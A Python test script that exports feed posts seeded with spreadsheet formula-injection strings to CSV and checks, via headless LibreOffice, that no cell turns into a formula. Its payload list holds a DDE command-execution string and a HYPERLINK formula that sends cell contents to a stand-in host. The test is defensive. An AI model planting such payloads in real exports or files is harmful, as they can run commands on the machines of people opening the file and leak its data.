#!/usr/bin/env python3
"""Posts that want to be formulas, exported and opened in LibreOffice: no cell may be a formula."""

import hashlib
import pathlib
import shutil
import subprocess
import xml.etree.ElementTree as ElementTree

from trial import Trial

STARTS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\ufeff=", "\u200b=", "\u00a0=", "\u3000=",
          "\uff1d", "\uff0b", "\uff0d", "\uff20", "'=", '"=', "=\"", "+-", "\u2212"]
PAYLOADS = ["1+1", "HYPERLINK(\"http://example.org/?\"&A1,\"look\")", "cmd|' /C calc'!A0",
            "SUM(A1:A9)", "WEBSERVICE(\"http://example.org\")"]
TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"


def words(*of):
    """Some words that only this post has, so that it is no copy of another."""
    digest = hashlib.sha256(repr(of).encode()).hexdigest().translate(str.maketrans("0123456789", "ghijklmnop"))
    return " ".join(digest[at:at + 5] for at in range(0, 60, 5))


entries = [
    {"id": f"{index}-{part}", "url": f"https://example.org/{index}/{part}",
     "title": f"{start}{payload}", "content_text": f"{start}{payload} and a word or two, {words(index, part)}",
     "authors": [{"name": f"{start}{payload}"}]}
    for index, start in enumerate(STARTS) for part, payload in enumerate(PAYLOADS)
]

trial = Trial(entries, keep="100%")
try:
    trial.command("poll", "--all")
    for profile in ("excel", "plain"):
        csv = trial.path / f"{profile}.csv"
        trial.command("export", "--decision", "all", "--profile", profile, "--out", str(csv))
        subprocess.run(
            # 44: comma, 34: double quote, 76: UTF-8, 1: from the first line; the last but two: "false" for
            # quoted fields as text, so that LibreOffice is as eager to see formulas as it ever is.
            ["soffice", f"-env:UserInstallation=file://{trial.path}/office", "--headless",
             "--infilter=CSV:44,34,76,1,,0,false,true,false,false", "--convert-to", "fods",
             "--outdir", str(trial.path), str(csv)],
            check=True, capture_output=True, timeout=300,
        )
        sheet = ElementTree.parse(trial.path / f"{profile}.fods").getroot()
        formulas = [cell.get(f"{TABLE}formula") for cell in sheet.iter(f"{TABLE}table-cell")
                    if cell.get(f"{TABLE}formula") is not None]
        assert not formulas, f"{profile}: formulas arrived: {formulas[:5]}"
        rows = [row for row in sheet.iter(f"{TABLE}table-row")
                if any(cell.iter(f"{TEXT}p") for cell in row) and next(row.iter(f"{TEXT}p"), None) is not None]
        assert len(rows) == len(entries) + 1, f"{profile}: {len(rows)} rows"
        header = ["".join(p.itertext()) for p in rows[0].iter(f"{TEXT}p")]
        assert header[0] == "id" and header[-1] == "export_id" and len(header) == 20, header
        print(f"   {profile}: {len(rows) - 1} rows, no formula")
finally:
    print(trial.command("inbox","count",check=False).stdout)
    trial.close()
